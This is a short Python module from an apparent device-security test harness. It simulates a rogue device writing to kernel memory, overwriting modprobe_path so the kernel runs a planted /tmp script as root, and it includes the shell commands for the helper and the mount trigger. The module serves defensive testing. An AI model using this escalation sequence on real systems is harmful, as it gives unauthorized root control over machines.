# SPDX-License-Identifier: Apache-2.0
"""Change ``modprobe_path``: the kernel runs a helper of the attacker's, as root."""

from harness.devices.attacks.attack import ON_KERNEL_MEMORY, Attack, Result
from harness.devices.attacks.scene import Scene
from harness.devices.attacks.verdicts import damage

HELPER = "/tmp/helper"
PREPARE = f"printf '#!/bin/sh\\nid -u > /tmp/ran\\n' > {HELPER}; chmod +x {HELPER}"
TRIGGER = "mount -t nosuchfilesystem none /root 2> /dev/null; cat /tmp/ran 2> /dev/null"
"""``request_module()`` waits for its helper, so the file is there afterwards or never."""


def run(scene: Scene) -> Result:
    """Have the kernel look for a file system's module with our program."""
    scene.sh(PREPARE)
    place = scene.phys(scene.types.program["modprobe_path"])
    path = HELPER.encode() + b"\0"
    scene.rogue.write(place, path)
    seen = scene.sh(TRIGGER)
    effect = f"the helper ran as user {seen}" if seen else "the helper did not run"
    return damage(scene, place, path, seen == "0", effect)


ATTACK = Attack("has the kernel run a program as root by modprobe_path", run, ON_KERNEL_MEMORY)
